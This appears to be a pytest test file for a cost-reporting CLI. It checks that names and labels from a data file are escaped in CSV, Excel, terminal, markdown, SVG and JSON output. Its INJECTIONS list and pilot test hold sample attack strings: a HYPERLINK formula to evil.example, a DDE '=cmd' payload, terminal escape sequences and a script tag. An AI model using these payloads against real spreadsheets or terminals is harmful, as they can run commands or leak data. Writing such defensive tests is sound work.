"""Text from a data file is untrusted wherever it lands: formulas, links, escape sequences, HTML
and control characters from names and labels never reach a spreadsheet, terminal, SVG or page
as anything but text. Each output is read back with the parser its readers use."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from cmhcost.cli import app
from cmhcost.report.safe_text import (
    FORMULA_START,
    csv_cell,
    for_markdown,
    for_terminal,
    for_xml,
)
from tests.conftest import FIXTURES

# What a hostile file puts in a name or label (YAML double-quoted escapes: \e is ESC, \a BEL).
INJECTIONS = {
    "formula": r"=HYPERLINK(\"http://evil.example/\"&A1,\"click\")",
    "dde": r"=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": r"\tstarts with a tab",
    "carriage return": r"\rstarts with a carriage return",
    "title escape": r"\e]0;owned\a",
    "clear screen": r"\e[2Jcleared",
    "html": "<script>alert(1)</script>",
    "markdown link": "[click](http://evil.example/)",
    "url": "http://evil.example/",
    "control": r"bell\x01\x7f here",
}
DATA_ROWS = ("compare", "services")


def hostile_data(tmp_path: Path, text: str) -> Path:
    """The valid services fixture with `text` as a record's name and a baseline's label."""
    source = (FIXTURES / "valid" / "services.yaml").read_text()
    source = source.replace("name: Tupu Ake", f'name: "{text}"', 1)
    source = source.replace("label: Inpatient hospital bed, per night", f'label: "{text}"', 1)
    path = tmp_path / "hostile.yaml"
    path.write_text(source)
    return path


def run(runner: CliRunner, tmp_path: Path, text: str, *args: str) -> str:
    data = hostile_data(tmp_path, text)
    rates = FIXTURES / "valid" / "rates.yaml"
    result = runner.invoke(app, [*args, "--data", str(data), "--rates", str(rates)])
    assert result.exit_code == 0, result.output
    return result.stdout


def compare(runner: CliRunner, tmp_path: Path, text: str, *args: str) -> str:
    data = hostile_data(tmp_path, text)
    rates = FIXTURES / "valid" / "rates.yaml"
    base = ["compare", "--data", str(data), "--rates", str(rates), "--rates-date", "2021-02-01"]
    result = runner.invoke(app, [*base, *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def spreadsheet_would_compute(cell: str) -> bool:
    """What a spreadsheet reads as a formula: a text cell starting =, +, -, @, tab or CR that is
    not a plain number."""
    if not cell.startswith(FORMULA_START):
        return False
    return not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)


@pytest.mark.parametrize("case", sorted(INJECTIONS))
@pytest.mark.parametrize("command", ["compare", "services"])
def test_csv_cells_never_start_a_formula(
    runner: CliRunner, tmp_path: Path, case: str, command: str
) -> None:
    if command == "compare":
        out = compare(runner, tmp_path, INJECTIONS[case], "--format", "csv")
    else:
        data = hostile_data(tmp_path, INJECTIONS[case])
        result = runner.invoke(app, ["services", "--data", str(data), "--format", "csv"])
        assert result.exit_code == 0, result.output
        out = result.stdout
    rows = list(csv.reader(io.StringIO(out)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if spreadsheet_would_compute(cell)]
    assert any(cell.startswith("'") or "evil" in cell or "bell" in cell for cell in cells) or (
        case in ("title escape", "clear screen", "html")
    )


def test_csv_numbers_stay_numbers() -> None:
    assert csv_cell("-12.50") == "-12.50"
    assert csv_cell(-3) == -3
    assert csv_cell("-2+3") == "'-2+3"
    assert csv_cell("=1+1") == "'=1+1"


@pytest.mark.parametrize("case", sorted(INJECTIONS))
def test_a_workbook_holds_text_not_formulas_or_links(
    runner: CliRunner, tmp_path: Path, case: str
) -> None:
    target = tmp_path / "out.xlsx"
    compare(runner, tmp_path, INJECTIONS[case], "--format", "xlsx", "--output", str(target))
    book = openpyxl.load_workbook(target)  # an ill-formed sheet's XML would fail here
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", cell.value)
    names = [c.value for c in book["Comparison"]["A"]]
    assert any(isinstance(v, str) and "evil" in v for v in names) or case not in ("formula", "url")


@pytest.mark.parametrize("case", sorted(INJECTIONS))
@pytest.mark.parametrize("command", ["compare", "services", "show"])
def test_terminal_tables_show_escape_sequences_escaped(
    runner: CliRunner, tmp_path: Path, case: str, command: str
) -> None:
    data = hostile_data(tmp_path, INJECTIONS[case])
    if command == "compare":
        out = compare(runner, tmp_path, INJECTIONS[case])
    else:
        args = ["show", "tupu-ake"] if command == "show" else ["services"]
        result = runner.invoke(app, [*args, "--data", str(data)])
        assert result.exit_code == 0, result.output
        out = result.stdout
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", out)  # nothing but line breaks
    if case == "title escape":
        assert "\\x1b]0;owned" in out  # shown, not sent (rich drops the bell itself)


@pytest.mark.parametrize("case", ["html", "markdown link", "title escape"])
def test_markdown_renders_data_as_text(runner: CliRunner, tmp_path: Path, case: str) -> None:
    out = compare(runner, tmp_path, INJECTIONS[case], "--format", "markdown")
    assert not re.search(r"(?<!\\)<script|(?<!\\)\]\(http", out) and "\x1b" not in out
    if case == "html":
        assert "\\<script\\>alert(1)\\</script\\>" in out


def test_the_json_keeps_the_text_exactly(runner: CliRunner, tmp_path: Path) -> None:
    text = "=1+1 <b>"
    report = json.loads(compare(runner, tmp_path, text, "--format", "json"))
    assert text in {row["name"] for row in report["rows"]}


@pytest.mark.parametrize("case", ["control", "title escape", "html"])
def test_the_forest_plot_is_well_formed_svg(runner: CliRunner, tmp_path: Path, case: str) -> None:
    data = hostile_data(tmp_path, INJECTIONS[case])
    rates = FIXTURES / "valid" / "rates.yaml"
    target = tmp_path / "plot.svg"
    args = ["plot", "--data", str(data), "--rates", str(rates), "--output", str(target)]
    result = runner.invoke(app, [*args, "--rates-date", "2021-02-01"])
    assert result.exit_code == 0, result.output
    assert result.stderr.startswith("wrote") and "Warning" not in result.stderr
    ET.fromstring(target.read_bytes())  # raises on ill-formed XML


@given(st.text())
def test_terminal_text_holds_no_control_character(text: str) -> None:
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", for_terminal(text))


@given(st.text())
def test_xml_text_fits_in_an_element(text: str) -> None:
    element = ET.fromstring(f"<t>{for_xml(text).replace('&', '&amp;').replace('<', '&lt;')}</t>")
    assert element.text is None or "\x1b" not in element.text


@given(st.text())
def test_csv_cells_never_compute(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert not spreadsheet_would_compute(cell) or re.fullmatch(r"[+-]?[\d.eE+-]+", cell)


@given(st.text())
def test_markdown_text_has_no_raw_brackets(text: str) -> None:
    out = for_markdown(text)
    assert not re.search(r"(?<!\\)[<>\[\]`|]", out.replace("\\\\", ""))
    assert "\n" not in out


def test_a_pilot_workbook_writes_labels_and_names_as_text(
    runner: CliRunner, tmp_path: Path
) -> None:
    examples = Path(__file__).parents[2] / "examples"
    text = (examples / "brazil-peer-crisis-respite.yaml").read_text()
    text = text.replace(
        '"Premises: rent, utilities, maintenance"', "\"=cmd|' /C calc'!A0\"", 1
    ).replace(
        "name: Peer-run crisis respite house (proposal)", 'name: "http://evil.example/\\e[2J"'
    )
    pilot = tmp_path / "pilot.yaml"
    pilot.write_text(text)
    target = tmp_path / "pilot.xlsx"
    result = runner.invoke(app, ["pilot", str(pilot), "--format", "xlsx", "--output", str(target)])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(target)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.hyperlink is None
                if cell.data_type == "f":  # the workbook's own live formulas, never data text
                    assert "cmd" not in str(cell.value) and "evil" not in str(cell.value)
                elif isinstance(cell.value, str):
                    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", cell.value)
                    texts.append(cell.value)
    assert any("=cmd|' /C calc'!A0" in t for t in texts)
    assert any("http://evil.example/" in t for t in texts)


def test_markdown_leaves_bare_addresses_unlinked_and_reading_as_written() -> None:
    from markdown_it import MarkdownIt

    from cmhcost.report.safe_text import for_markdown

    words = "see http://evil.example/x, WWW.evil.example and me@evil.example"
    written = for_markdown(words)
    # No run that GitHub's markdown would link by itself is left in the source ...
    assert "http\\://" in written and "WWW\\." in written and "me\\@evil" in written
    # ... and CommonMark reads the escapes back to the words as they were.
    assert MarkdownIt("commonmark").render(written) == f"<p>{words}</p>\n"


@pytest.mark.parametrize("command", ["compare", "services", "show"])
def test_terminal_tables_show_emoji_codes_as_written(
    runner: CliRunner, tmp_path: Path, command: str
) -> None:
    # rich turns ":warning:" into an emoji unless told not to: a name is shown as the file has it.
    text = "Tupu Ake :warning: :smile:"
    if command == "compare":
        out = compare(runner, tmp_path, text)
    else:
        args = ["show", "tupu-ake"] if command == "show" else ["services"]
        data = hostile_data(tmp_path, text)
        out = runner.invoke(app, [*args, "--data", str(data)]).stdout
    assert ":warning:" in out.replace("\n", " ") or ":warni" in out
    assert "\N{WARNING SIGN}" not in out and "\N{SMILING FACE WITH OPEN MOUTH}" not in out
